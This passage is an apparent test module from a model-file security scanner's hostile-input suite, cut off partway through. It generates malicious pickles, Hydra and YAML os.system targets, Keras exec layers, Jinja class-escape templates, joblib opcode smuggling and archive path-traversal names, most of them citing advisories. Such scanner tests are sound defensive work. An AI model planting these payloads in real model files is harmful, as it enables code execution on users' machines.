"""Our third search for ways past the audit: what configurations name, constructors of known libraries, joblib."""

from __future__ import annotations

import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib

from tests.hostile.assembler import (
    COMMAND,
    LEGACY,
    SYSTEM,
    ZEROS,
    Attack,
    Raw,
    call,
    checkpoint,
    exported,
    gguf,
    name,
    new,
    npy,
    push,
    stacked,
    stream,
    tarred,
    tensors,
    zipped,
)
from tests.hostile.second_search import field

EVIL = stream(SYSTEM)
HELD = stacked("mypackage.tools:run")
NAMESPACE = "types:SimpleNamespace"
WEIGHTS = ("model.safetensors", b"\x02\0\0\0\0\0\0\0{}")


def built(value: Raw, state: object) -> Raw:
    """BUILD behind *value*."""
    return Raw(value.code + push(state) + b"b")


def beside(**files: object) -> tuple[tuple[str, bytes], ...]:
    """A folder of a model; of each file the name, with ``__`` for the dot, and what is in it, JSON if no bytes."""
    return (
        WEIGHTS,
        *(
            (file.replace("__", "."), content if isinstance(content, bytes) else json.dumps(content).encode())
            for file, content in files.items()
        ),
    )


# --- published


def advisories() -> list[Attack]:
    """Those that neither of the searches before had, called as their reports call them."""
    read = call("linecache:getlines", "/etc/hostname")
    cases: dict[str, tuple[Raw, str, tuple[str, ...]]] = {
        "myeval of f2py": (
            call("numpy.f2py.crackfortran:myeval", "1"),
            "S101",
            ("GHSA-3329-ghmp-jmv5", "CVE-2025-71365"),
        ),
        "param_eval of f2py": (
            call("numpy.f2py.crackfortran:param_eval", "1", {}, {}),
            "S101",
            ("GHSA-cffc-mxrf-mhh4", "CVE-2025-71347"),
        ),
        "getlincoef of f2py": (
            call("numpy.f2py.crackfortran:getlincoef", "1", {"x": 0}),
            "S101",
            ("GHSA-rrxm-2pvv-m66x", "CVE-2025-71372"),
        ),
        "_eval_length of f2py": (
            call("numpy.f2py.crackfortran:_eval_length", "1", {}),
            "S101",
            ("GHSA-6556-fwc2-fg2p", "CVE-2025-71339"),
        ),
        "runstring of numpy": (
            call("numpy.testing._private.utils:runstring", "pass", {}),
            "S101",
            ("GHSA-fj43-3qmq-673f", "CVE-2025-71355"),
        ),
        "pty": (call("pty:spawn", COMMAND), "S101", ("GHSA-hgrh-qx5j-jfwx", "CVE-2025-71322")),
        "a line of a file in the name of a host": (
            call("ssl:get_server_certificate", (call("linecache:getline", "/etc/hostname", 1), 443)),
            "S105",
            ("GHSA-93mv-x874-956g", "CVE-2025-46417"),
        ),
        "the lines of a file in the state of an object": (
            built(call("difflib:Differ"), call("builtins:dict", call("builtins:enumerate", read))),
            "S102",
            ("GHSA-r48f-3986-4f9c",),
        ),
        "a program that platform runs": (call("platform:_syscmd_file", "x"), "S101", ("GHSA-5cxw-w2xg-2m8h",)),
        "an annotation that torch evaluates": (
            call("torch.jit.annotations:parse_type_line", "# type: (1) -> 1", None, None),
            "S101",
            ("GHSA-47fc-vmwq-366v", "CVE-2022-45907"),
        ),
    }
    keys = pickle.dumps([], 2)
    computed = stream(call("builtins:eval", "MAGIC_NUMBER"), protocol=2)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    return [
        *(Attack(f"published since: {way}", stream(value), code, cites=c) for way, (value, code, c) in cases.items()),
        Attack(
            "a legacy file whose magic number is computed",
            computed + LEGACY[len(magic) :] + stream(SYSTEM, {}, protocol=2) + keys,
            "S101",
            ".pt",
            cites=("GHSA-97f8-7cmv-76j2", "CVE-2026-53875"),
        ),
        Attack(
            "a checkpoint of Lightning",
            checkpoint(stream({"state_dict": {}, "callbacks": SYSTEM}, protocol=2)),
            "S101",
            ".ckpt",
            cites=("GHSA-75m9-98v2-hjpm", "CVE-2026-31221"),
        ),
        Attack(
            "the state of the random numbers beside a model",
            b"",
            "S101",
            "",
            cites=("GHSA-69w3-r845-3855", "CVE-2026-1839"),
            files=beside(rng_state__pth=checkpoint(EVIL)),
        ),
    ]


# --- what configurations name


def configurations() -> list[Attack]:
    """Names that loaders follow, which stand in no pickle."""
    target = {"_target_": "os.system", "_args_": [COMMAND]}
    header = json.dumps({"__metadata__": {"config": repr({"model": target})}}).encode()
    nemo = tarred(
        [
            ("./model_config.yaml", b"target: nemo.x.Model\nloss:\n  _target_: os.system\n"),
            ("./model_weights.ckpt", checkpoint(tensors(), ZEROS)),
        ]
    )
    hydra = ("CVE-2025-23304", "CVE-2026-22584")
    instantiator = ("CVE-2026-58659", "GHSA-qqmf-gpg7-g8gw", "lightning#21822")
    schema = {"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "protocol": 1}
    operator = {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "protocol": 1}
    found = [
        Attack("a target of Hydra beside the weights", b"", "S130", "", hydra, "", beside(config__json=target)),
        Attack(
            "a target of Hydra in the metadata of safetensors",
            struct.pack("<Q", len(header)) + header,
            "S130",
            ".safetensors",
            hydra,
            answer="",
        ),
        Attack("a target of Hydra in a model of NeMo", nemo, "S130", ".nemo", hydra, answer="tensors only"),
        Attack(
            "a target of Hydra in a compressed model of NeMo",
            gzip.compress(nemo, mtime=0),
            "S130",
            ".nemo",
            hydra,
            answer="tensors only",
        ),
        Attack(
            "a target of Hydra among the hyperparameters",
            checkpoint(stream({"state_dict": {}, "cfg": {"model": target}}, protocol=2)),
            "S130",
            ".ckpt",
            hydra,
            answer="tensors only",
        ),
        Attack(
            "a target of latent-diffusion",
            b"",
            "S130",
            "",
            answer="",
            files=beside(model__yaml=b"model:\n  target: os.system\n  params:\n    command: 'true'\n"),
        ),
        Attack(
            "an instantiator of Lightning",
            checkpoint(stream({"state_dict": {}, "hyper_parameters": {"_instantiator": "os.system"}}, protocol=2)),
            "S130",
            ".ckpt",
            instantiator,
            answer="tensors only",
        ),
        Attack(
            "an instantiator of Lightning of an unknown package",
            checkpoint(stream({"state_dict": {}, "hyper_parameters": {"_instantiator": "mypackage.run"}}, protocol=2)),
            "S130",
            ".ckpt",
            instantiator,
            answer="tensors only",
        ),
        Attack(
            "the class of Lightning's own instantiator",
            checkpoint(
                stream(
                    {
                        "state_dict": {},
                        "hyper_parameters": {
                            "_instantiator": "lightning.pytorch.cli.instantiate_module",
                            "_class_path": "this.x",
                        },
                    },
                    protocol=2,
                )
            ),
            "S130",
            ".ckpt",
            ("lightning#21914",),
            answer="tensors only",
        ),
        Attack(
            "a target of Hydra in a configuration of OmegaConf",
            checkpoint(
                stream(
                    {
                        "state_dict": {},
                        "cfg": new(
                            "omegaconf.dictconfig:DictConfig",
                            state={
                                "_content": {"_target_": new("omegaconf.nodes:AnyNode", state={"_val": "os.system"})}
                            },
                        ),
                    },
                    protocol=2,
                )
            ),
            "S130",
            ".ckpt",
            hydra,
            answer="needs classes",
        ),
        Attack(
            "a target of Hydra in a Namespace",
            checkpoint(
                stream(
                    {"state_dict": {}, "args": new("argparse:Namespace", state={"_target_": "os.system"})}, protocol=2
                )
            ),
            "S130",
            ".ckpt",
            hydra,
            answer="needs classes",
        ),
        Attack(
            "a target of Hydra among the items of a dict",
            checkpoint(
                stream(
                    {"cfg": Raw(new("easydict:EasyDict").code + push("_target_") + push("os.system") + b"s")},
                    protocol=2,
                )
            ),
            "S130",
            ".ckpt",
            hydra,
            answer="needs classes",
        ),
        Attack(
            "a configuration of OpenMMLab that imports",
            checkpoint(stream({"state_dict": {}, "meta": {"cfg": "import os\nos.system('true')\n"}}, protocol=2)),
            "S130",
            ".pth",
            answer="tensors only",
        ),
        Attack(
            "attention that is fetched",
            b"",
            "S130",
            "",
            ("CVE-2026-4372",),
            "",
            beside(config__json={"text_config": {"_attn_implementation_internal": "nobody/kernel"}}),
        ),
        Attack(
            "experts that are fetched",
            b"",
            "S130",
            "",
            ("CVE-2026-4372",),
            "",
            beside(config__json={"_experts_implementation_internal": "nobody/kernel"}),
        ),
        Attack(
            "an activation that is imported",
            b"",
            "S130",
            "",
            ("CVE-2026-41523", "GHSA-q8gq-377p-jq3r"),
            "",
            beside(config__json={"sentence_transformers": {"activation_fn": "os.system"}}),
        ),
        Attack(
            "a library that PEFT imports",
            b"",
            "S130",
            "",
            answer="",
            files=(
                ("adapter_config.json", b'{"auto_mapping": {"parent_library": "os.path"}}'),
                ("adapter_model.safetensors", WEIGHTS[1]),
            ),
        ),
        Attack(
            "a module of a sentence transformer",
            b"",
            "S130",
            "",
            answer="",
            files=beside(modules__json=[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
        ),
        Attack(
            "a type of skops",
            zipped([("schema.json", json.dumps(schema).encode())]),
            "S130",
            ".skops",
            ("CVE-2024-37065", "GHSA-q49c-6v6g-wgq3"),
            answer="",
        ),
        Attack(
            "an operator of skops",
            zipped([("schema.json", json.dumps({"content": [operator]}).encode())]),
            "S130",
            ".skops",
            ("CVE-2025-54412", "CVE-2025-54413"),
            answer="",
        ),
        Attack(
            "a chat template that is called a path",
            b"",
            "S123",
            "",
            ("CVE-2026-9856", "GHSA-xrqw-3rrv-vx5w"),
            "",
            beside(tokenizer_config__json={"chat_template": [{"name": "../../x", "template": "{{ x }}"}]}),
        ),
        Attack(
            "chat templates under paths",
            b"",
            "S123",
            "",
            ("CVE-2026-9856",),
            "",
            beside(tokenizer_config__json={"chat_template": {"../../x": "{{ x }}"}}),
        ),
    ]
    yaml = {
        "in quotes": b"'_target_': \"os.system\"\n",
        "on a line of its own": b"_target_:\n    os.system\n",
        "folded": b"_target_: >-\n  os.system\n",
        "behind a tag": b"_target_: !!str os.system\n",
        "behind an anchor": b"_target_: &a os.system\n",
        "by an alias": b"a: &x os.system\n_target_: *x\n",
        "by an interpolation": b"a: os.system\n_target_: ${a}\n",
        "in the flow style": b"x: {_target_: os.system}\n",
        "in escapes": b'"_targ\\x65t_": os.system\n',
        "as a complex key": b"? _target_\n: os.system\n",
        "as an object of Python": b"x: !!python/object/apply:os.system ['true']\n",
        "as an object of Python by its whole tag": b"x: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "as a module of Python": b"x: !!python/module:subprocess\n",
        "in UTF-16": "_target_: os.system\n".encode("utf-16"),
        "behind a handle": b"%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['true']\n",
        "in escapes of a tag": b"x: !!pyth%6Fn/object/apply:os.system ['true']\n",
    }
    return found + [
        Attack(f"a target in YAML {way}", b"", "S130", "", answer="", files=beside(anything__yaml=text))
        for way, text in yaml.items()
    ]


# --- objects


def kind(code: str, flags: int) -> Raw:
    """A plain type of numpy's."""
    return built(call("numpy:dtype", code, False, True), (3, "|", None, None, None, -1, -1, flags))


def typed_as(size: int, fields: object, base: object = None, flags: int = 0) -> Raw:
    """A type of numpy's of *size* bytes with *fields*, or an array of *base*."""
    names = tuple(fields) if isinstance(fields, dict) else None
    state = (3, "|", base, names, fields, size, 1, flags)
    return built(call("numpy:dtype", f"V{size}", False, True), state)


def constructed() -> list[Attack]:
    """Objects of well-known libraries whose constructors act, or that are restored so that something is called."""
    container = "numpy.lib._user_array_impl:container"
    lazy = "lightning_utilities.core.imports:LazyModule"
    typed = "torch._tensor:_rebuild_from_type_v2"
    defaults = new(NAMESPACE, state={"get": HELD})
    objects: dict[str, tuple[Raw, str]] = {
        "a module that is imported when it is asked for its state": (built(call(lazy, "this"), {"x": 1}), "S102"),
        "the same, without a call": (new(lazy, state=(None, {"_module_name": "this"})), "S102"),
        "a module of Transformers that is imported when it is asked": (
            new("transformers.utils.import_utils:_LazyModule", state={"_class_to_module": {"__setstate__": "x"}}),
            "S102",
        ),
        "a model of a metric that is fetched": (call("torchmetrics.text.bert:BERTScore", "nobody/model"), "S103"),
        "a template of PyG that is executed": (
            call("torch_geometric.nn.sequential:Sequential", "x):\n    import os\n", [HELD]),
            "S101",
        ),
        "a database of PyG": (call("torch_geometric.data.database:SQLiteDatabase", "x", "y"), "S104"),
        "a workbook of pandas": (call("pandas:ExcelWriter", "x.xlsx"), "S104"),
        "a function handed to an environment": (call("gymnasium.vector.sync_vector_env:SyncVectorEnv", [HELD]), "S109"),
        "a vocabulary that is unpickled": (
            call(
                "transformers.models.transfo_xl.tokenization_transfo_xl:TransfoXLTokenizer",
                *(None, 0, None, False, None, None, "vocabulary"),
            ),
            "S103",
        ),
        "an index that is unpickled": (call("transformers.models.rag.retrieval_rag:LegacyIndex", 1, "folder"), "S103"),
        "a dataset that is fetched": (call("monai.apps.datasets:MedNISTDataset", "x", "training", [], True), "S103"),
        "a log that is written": (call("mmengine.logging.logger:MMLogger", "x", "x", "x"), "S104"),
        "an array that hands attributes on": (
            new(container, state=({"array": stacked("mypackage:settings")}, {"debug": True})),
            "S102",
        ),
        "an array that hands attributes on to a module": (
            new("numpy.lib.user_array:container", state=({"array": stacked("torch.nn:functional")}, {"relu": 1})),
            "S102",
        ),
        "an optimizer that asks its state": (
            new("torch.optim.adam:Adam", state={"state": defaults, "param_groups": [{"params": [COMMAND]}]}),
            "S109",
        ),
        "a file that is closed": (
            new("pandas.io.excel._base:ExcelFile", state={"handles": new(NAMESPACE, state={"close": HELD})}),
            "S109",
        ),
        "types that torch evaluates": (
            new(NAMESPACE, state={"annotation": stacked("torch.fx.operator_schemas:_torchscript_type_to_python_type")}),
            "S101",
        ),
        "a model of YOLO whose activation is evaluated": (
            call("ultralytics.nn.tasks:DetectionModel", {"nc": 1, "activation": "exit()", "backbone": [], "head": []}),
            "S101",
        ),
        "a model of YOLOv5 whose layers are evaluated": (
            call("models.yolo:Model", {"nc": 1, "backbone": [[-1, 1, "exit()", []]], "head": []}),
            "S101",
        ),
        "a tensor that is the root logger": (
            call(typed, stacked("logging:getLogger"), stacked("logging:RootLogger"), ("",), {"disabled": True}),
            "S110",
        ),
        "a tensor that is a class": (
            call(
                "torch._tensor:_rebuild_from_type",
                *(stacked("builtins:type"), stacked("builtins:type")),
                *((new("mypackage:Net"),), (None, {"forward": 1})),
            ),
            "S110",
        ),
        "a member of an enumeration of torch's that is changed": (
            built(call("torch.nn.attention:SDPBackend", 1), {"x": 1}),
            "S110",
        ),
        "weights of torchvision's that are to be fetched elsewhere": (
            built(call("torchvision.models.resnet:ResNet18_Weights", "x"), (None, {"_value_": 1})),
            "S110",
        ),
        "a member of an enumeration of Python's that is changed": (built(call("re:RegexFlag", 2), {"x": 1}), "S110"),
        "objects that a type does not tell of": (typed_as(8, {"a": (kind("O8", 63), 0)}), "S110"),
        "a field of a type beyond its end": (typed_as(8, {"a": (kind("i8", 0), 1 << 20)}), "S110"),
        "a field of a type before its beginning": (typed_as(8, {"a": (kind("i8", 0), -8)}), "S110"),
        "a type of more than it has": (typed_as(8, None, (kind("i8", 0), (1000,))), "S110"),
        "objects deep in a type": (typed_as(8, {"a": (typed_as(8, {"b": (kind("O8", 63), 0)}, flags=27), 0)}), "S110"),
        "another file that joblib loads": (
            new("joblib.numpy_pickle_compat:NDArrayWrapper", state={"filename": "../../x.npy", "allow_mmap": False}),
            "S103",
        ),
    }
    return [Attack(f"constructed: {way}", stream(value), code) for way, (value, code) in objects.items()]


def joblib() -> list[Attack]:
    """Dumps of joblib, whose unpickler reads the bytes of arrays from between the opcodes."""
    wrapper = (
        stacked("joblib.numpy_pickle:NumpyArrayWrapper").code
        + b")\x81"
        + push(
            {
                "subclass": name("numpy:ndarray"),
                "shape": (30,),
                "order": "C",
                "dtype": call("numpy:dtype", "u1", False, True),
                "allow_mmap": False,
            }
        )
        + b"b"
    )
    hidden = b"0cos\nsystem\n(S'true'\ntR."
    stopped = b".\nabcdefghijklmnopqrstuvwxyz.."[:30]
    swallowed = b"0" + b"N" * 24 + b"X" + struct.pack("<I", len(hidden) - 1)
    assert len(stopped) == len(swallowed) == 30
    old = b"ZF" + hex(len(EVIL)).encode().ljust(19)
    return [
        # to all others the pickle ends in the first byte of the array
        Attack("an array of joblib that ends the pickle", b"\x80\x02" + wrapper + stopped + hidden, "I105", answer=""),
        # to all others what is behind the array is a text
        Attack(
            "an array of joblib that swallows what is behind it",
            b"\x80\x02" + wrapper + swallowed + hidden,
            "I105",
            answer="unknown",
        ),
        Attack(
            "an array of joblib in an archive",
            zipped([("a/model.joblib", b"\x80\x02" + wrapper + stopped + hidden), ("a/x.txt", b"text")]),
            "I105",
            ".zip",
            answer="",
        ),
        Attack("a compressed file of old joblib", old + zlib.compress(EVIL), "S101", ".z"),
        Attack("a compressed file of older joblib", old + b" " + zlib.compress(EVIL), "S101", ".pkl"),
        Attack(
            "LZMA of old in a folder",
            b"",
            "S101",
            "",
            files=beside(data__lzma=lzma.compress(EVIL, format=lzma.FORMAT_ALONE)),
        ),
    ]


# --- other formats


def array(descr: str) -> bytes:
    """An array of one object whose header has *descr* for its type."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + EVIL


def keras(config: object, *more: tuple[str, bytes]) -> bytes:
    """A Keras model whose weights can be read."""
    numbers = npy(b"").replace(b"'|O'", b"'|u1'").replace(b"(1,), }  ", b"(1,), } ") + b"\1"
    weights = zipped([("a.npy", numbers)])
    return zipped([*more, ("config.json", json.dumps(config).encode()), ("model.weights.npz", weights)])


def external(*entries: tuple[bytes, bytes]) -> bytes:
    """An ONNX model with an initializer of four bytes that has *entries* for its external data."""
    data = b"".join(field(13, field(1, key), field(2, value)) for key, value in entries)
    initializer = field(5, field(1, 1), field(2, 1), field(8, b"w"), data, field(14, 1))
    return field(1, 8) + field(7, field(2, b"g"), initializer) + field(8, field(2, 13))


def treespec(context: object) -> bytes:
    """An exported program with *context* in the structure of its inputs."""
    inner = {"type": "collections.defaultdict", "context": context, "children_spec": []}
    spec = json.dumps([1, {"type": "builtins.tuple", "context": "null", "children_spec": [inner]}])
    return exported({"graph_module": {"module_call_graph": [{"signature": {"in_spec": spec}}]}})


def programs() -> list[Attack]:
    """Layers of Keras, structures of exported programs, types of numpy's, templates."""
    layers: dict[str, tuple[object, tuple[str, ...]]] = {
        "another model that a layer loads": (
            {"class_name": "TFSMLayer", "module": "keras.layers", "config": {"filepath": "/nonexistent"}},
            ("CVE-2026-1462", "GHSA-4f3f-g24h-fr8m"),
        ),
        "Python's exec as a function": (
            {"module": "builtins", "class_name": "function", "config": "exec"},
            ("GHSA-48g7-3x6r-xfhp",),
        ),
        "Python's open as a class": ({"module": "builtins", "class_name": "open", "config": {"file": "x"}}, ()),
        "the switch of the safe mode": (
            {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
            ("CVE-2025-9906", "GHSA-36fq-jgmw-4r9c"),
        ),
        "a Lambda layer, without metadata": (
            {"class_name": "Lambda", "config": {}},
            ("CVE-2026-12481", "GHSA-5gwj-m78q-7pq3"),
        ),
        "a module of torch, without metadata": (
            {"class_name": "TorchModuleWrapper", "config": {}},
            ("CVE-2026-12484", "GHSA-v2w2-w228-c444"),
        ),
    }
    found = [
        Attack(f"Keras: {way}", keras(layer), "S127", ".keras", cites, answer="")
        for way, (layer, cites) in layers.items()
    ]
    buffer = io.BytesIO(keras({}))
    with zipfile.ZipFile(buffer) as archive:
        weights = archive.read("model.weights.npz")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("layer.npy"), npy(EVIL))
    found += [
        Attack(
            "Keras: weights of NumPy that are a pickle",
            zipped(
                [
                    ("metadata.json", b'{"keras_version": "3.5.0"}'),
                    ("config.json", b'{"class_name": "Sequential", "config": {"layers": []}}'),
                    ("model.weights.npz", buffer.getvalue()),
                ]
            ),
            "S101",
            ".keras",
            ("modelscan#262",),
        ),
        Attack(
            "Keras: a Lambda layer in a folder",
            b"",
            "S127",
            "",
            answer="",
            files=(
                ("config.json", b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}}'),
                ("model.weights.npz", weights),
            ),
        ),
        # the links and external storages that these advisories are about stand in HDF5, which is not read
        *(
            Attack(f"weights of Keras in HDF5, {way}", b"\x89HDF\r\n\x1a\n" + bytes(64), "I105", ".h5", cites, "")
            for way, cites in {
                "with a link": ("CVE-2026-9335", "GHSA-m8wh-29wm-52mv"),
                "with an external storage": ("CVE-2026-1669", "GHSA-3m4q-jmj6-r34q"),
                "with a virtual dataset": ("CVE-2026-12480", "GHSA-26c4-7vv6-867j"),
                "with a shape that is too large": ("CVE-2026-0897", "GHSA-mgx6-5cf9-rr43"),
            }.items()
        ),
    ]
    factory = {"default_factory_module": "os", "default_factory_name": "system", "dict_context": []}
    member = {"__enum__": 1, "fqn": "this:Color", "name": "RED"}
    operator = {"nodes": [{"inputs": [{"arg": {"as_operator": "torch.hub.load"}}]}]}
    found += [
        Attack(f"an exported program {way}", data, "S122", ".pt2", answer="tensors only")
        for way, data in {
            "with a factory of defaults": treespec(factory),
            "with a factory of defaults in a text": treespec(json.dumps(factory)),
            "with a member of an enumeration": treespec(json.dumps(member)),
            "that hands on a function": exported(operator),
        }.items()
    ]
    package = ("p/archive_format", b"pt2"), ("p/archive_version", b"0")
    place = "p/data/aotinductor/model/x"
    flags = json.dumps({"compiler": "true;g++", "cflags": []}).encode()
    found += [
        # torch compiles them where there is no library, by the command that stands in the package
        Attack(
            "the source of a library in a package",
            zipped([*package, (f"{place}.cpp", b"int x;\n")]),
            "S124",
            ".pt2",
            (),
            "",
        ),
        Attack(
            "how a library of a package is compiled",
            zipped([*package, (f"{place}_compile_flags.json", flags)]),
            "S124",
            ".pt2",
            answer="",
        ),
        Attack(
            "how a library of a package is linked",
            zipped([*package, (f"{place}_linker_flags.json", flags)]),
            "S124",
            ".pt2",
            answer="",
        ),
        Attack(
            "an attribute among the external data",
            external((b"location", b"w.bin"), (b"__class__", b"x"), (b"length", b"4")),
            "S110",
            ".onnx",
            ("CVE-2026-34445", "GHSA-538c-55jv-c5g9"),
            answer="",
        ),
        Attack(
            "the first of two files of external data",
            external((b"location", b"../../x"), (b"location", b"w.bin"), (b"length", b"4")),
            "S123",
            ".onnx",
            answer="",
        ),
    ]
    found += [
        Attack(f"an array of {descr}", array(descr), "S101", ".npy")
        for descr in ("{'names': ['a'], 'formats': ['O']}", "{'a': ('O', 0)}", "b'O'")
    ]
    templates = {
        "by repetition": "{{ ()['_' * 2 ~ 'class' ~ '_' * 2] }}",
        "by repetition the other way": "{{ ()[2 * '_' + x] }}",
        "from a list": "{{ ()[['_', '_', 'class'] | join] }}",
        "from a word": "{{ ()[u ~ 'class' ~ u] }}",
        "from how a function is shown": "{{ (raise_exception | string)[9] }}",
    }
    found += [
        Attack(f"a template that puts names together {way}", gguf(text), "S126", ".gguf", answer="")
        for way, text in templates.items()
    ]
    return found


# --- what tensors hold, and what readers find elsewhere


def tensor(dtype: str, key: str, shape: tuple[int, ...]) -> Raw:
    """A dense tensor over the whole storage *key* of a checkpoint."""
    numel = 1
    strides: list[int] = []
    for size in reversed(shape):
        strides.insert(0, numel)
        numel *= size
    storage = Raw(push(("storage", name(f"torch:{dtype}Storage"), key, "cpu", numel)) + b"Q")
    hooks = Raw(name("collections:OrderedDict").code + b")R")
    return call(name("torch._utils:_rebuild_tensor_v2"), storage, 0, shape, tuple(strides), False, hooks)


def sparse(index: int) -> bytes:
    """A checkpoint with a sparse tensor of four elements that has one value, at *index*."""
    parts = (tensor("Long", "0", (1, 1)), tensor("Float", "1", (1,)), (4,))
    made = call(name("torch._utils:_rebuild_sparse_tensor"), name("torch:sparse_coo"), parts)
    data = ("archive/data/0", struct.pack("<q", index)), ("archive/data/1", bytes(4))
    return checkpoint(stream({"weight": made}, protocol=2), *data)


def compressed(rows: tuple[int, ...], column: int) -> bytes:
    """A checkpoint with a sparse tensor of 2 by 3 elements by rows that has one value."""
    parts = (tensor("Long", "0", (3,)), tensor("Long", "1", (1,)), tensor("Float", "2", (1,)), (2, 3))
    made = call(name("torch._utils:_rebuild_sparse_tensor"), name("torch:sparse_csr"), parts)
    data = [struct.pack("<3q", *rows), struct.pack("<q", column), bytes(4)]
    members = [(f"archive/data/{i}", content) for i, content in enumerate(data)]
    return checkpoint(stream({"weight": made}, protocol=2), *members)


def nested(offset: int) -> bytes:
    """A checkpoint with a nested tensor of one row of four elements, which begins at *offset* of four."""
    parts = (
        tensor("Float", "0", (4,)),
        tensor("Long", "1", (1, 1)),
        tensor("Long", "2", (1, 1)),
        tensor("Long", "3", (1,)),
    )
    made = call(name("torch._utils:_rebuild_nested_tensor"), *parts)
    data = [bytes(16), struct.pack("<q", 4), struct.pack("<q", 1), struct.pack("<q", offset)]
    members = [(f"archive/data/{i}", content) for i, content in enumerate(data)]
    return checkpoint(stream({"weight": made}, protocol=2), *members)


def safetensors(key: str, data: bytes) -> bytes:
    """A file of one tensor of bytes."""
    entry = {key: {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}
    header = json.dumps(entry).encode()
    return struct.pack("<Q", len(header)) + header + data


def encoded(data: bytes) -> Raw:
    """Bytes as protocol 2 keeps them."""
    return call("_codecs:encode", data.decode("latin1"), "latin1")


def held() -> list[Attack]:
    """Tensors whose bytes are unpickled, and such as refer to memory that is not theirs."""
    state = "layer._extra_state"
    in_torch = checkpoint(stream({state: tensor("Byte", "0", (len(EVIL),))}, protocol=2), ("archive/data/0", EVIL))
    cite = ("CVE-2025-62164", "GHSA-mcmc-2m55-j8jj")
    return [
        Attack("the state of a layer that is a pickle", in_torch, "S101", ".pt"),
        Attack(
            "the state of a layer that is a pickle, in safetensors", safetensors(state, EVIL), "S101", ".safetensors"
        ),
        Attack("the state of a layer that is an archive", safetensors(state, checkpoint(EVIL)), "S101", ".safetensors"),
        Attack(
            "the state of a layer that is a pickle of protocol 0",
            safetensors(state, b"cos\nsystem\n(S'true'\ntR."),
            "S101",
            ".safetensors",
        ),
        Attack("a tensor of any name that is a pickle", safetensors("x", EVIL), "S101", ".safetensors"),
        *(
            Attack(
                f"the state of a layer that is {what}",
                checkpoint(stream({state: call("_io:BytesIO", encoded(data))}, protocol=2)),
                "S101",
                ".pt",
                ("transformerengine#3123",),
            )
            for what, data in {
                "a pickle, in a file in memory": EVIL,
                "an archive, in a file in memory": checkpoint(EVIL),
            }.items()
        ),
        *(
            Attack(
                f"bytes that are text encoded by {encoding}",
                stream(call("_codecs:encode", EVIL.decode("latin1"), encoding), protocol=2),
                "S109",
                ".pkl",
            )
            for encoding in ("rot13", "utf8", "unicode_escape")
        ),
        Attack("an index that is too large", sparse(1 << 40), "N109", ".pt", cite, "needs classes"),
        Attack("an index that is negative", sparse(-1), "N109", ".pt", cite, "needs classes"),
        Attack("a column that is too large", compressed((0, 1, 1), 3), "N109", ".pt", cite, "needs classes"),
        Attack("rows that fall", compressed((0, 9, 1), 0), "N109", ".pt", cite, "needs classes"),
        Attack("a row of a nested tensor beyond its end", nested(1), "N109", ".pt", answer="tensors only"),
    ]


def aliased(own: str, other: str, data: bytes, *more: tuple[str, bytes]) -> bytes:
    """An archive whose first member has another name in the extra field for names in Unicode."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(own)
        body = b"\1" + struct.pack("<L", zlib.crc32(own.encode())) + other.encode()
        info.extra = struct.pack("<HH", 0x7075, len(body)) + body
        archive.writestr(info, data)
        for member, content in more:
            archive.writestr(zipfile.ZipInfo(member), content)
    return buffer.getvalue()


def recorded(records: dict[str, str], data: bytes, everywhere: bool = False) -> bytes:
    """A tar archive with pax *records*, for its one file or for all files."""
    buffer = io.BytesIO()
    common = records if everywhere else {}
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT, pax_headers=common) as archive:
        info = tarfile.TarInfo("weights")
        info.size = len(data)
        info.pax_headers = {} if everywhere else records
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def elsewhere() -> list[Attack]:
    """Members under names that only some readers know, and files that only some put together."""
    writes = (
        b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
        b"  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n"
        b'    torch.save(x, "/nonexistent/x")\n    return x\n'
    )
    data = b"\x80\x02" + name("__torch__:M").code + b")\x81" + push({"training": True}) + b"b."
    lambdas = json.dumps({"class_name": "Lambda", "config": {}}).encode()
    pieces = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "x", "GNU.sparse.realsize": "28"}
    found = [
        # torch looks members up without regard to case
        Attack(
            f"a script whose code is {place}",
            zipped([("m/data.pkl", data), (place, writes), ("m/constants.pkl", b"\x80\x02)."), ("m/version", b"3\n")]),
            "S120",
            ".pt",
            answer="",
        )
        for place in ("m/CODE/__torch__.PY", "M/code/__torch__.py", "m/code/__torch__.Py")
    ]
    return [
        *found,
        Attack(
            "the layers of Keras under another name",
            aliased("readme.txt", "config.json", lambdas, ("metadata.json", b"{}")),
            "I203",
            ".keras",
            answer="",
        ),
        Attack(
            "a climbing name in Unicode",
            aliased("readme.txt", "../../x", b"text", ("model.pt", checkpoint(tensors(), ZEROS))),
            "I203",
            ".zip",
            answer="",
        ),
        Attack(
            "a path for all files of a tar archive",
            recorded({"path": "../../x"}, b"text", everywhere=True),
            "S123",
            ".tar",
            answer="",
        ),
        Attack(
            "a sparse file of a tar archive",
            recorded(pieces, b"1\n0\n28\n".ljust(512, b"\0") + EVIL),
            "I102",
            ".tar",
            answer="",
        ),
    ]


def put(target: Raw, **entries: object) -> Raw:
    """SETITEMS behind *target*."""
    return Raw(target.code + b"(" + b"".join(push(key) + push(value) for key, value in entries.items()) + b"u")


def chains() -> list[Attack]:
    """What an open search for ways past modelaudit found, as far as no case before is of its kind."""
    touch = name("pathlib:Path.touch")
    template = 'open("x","w")\ndef _parse_args(*args):\n    return (), 0, 1\n'
    poisoned = {"class": "subprocess.Popen"}
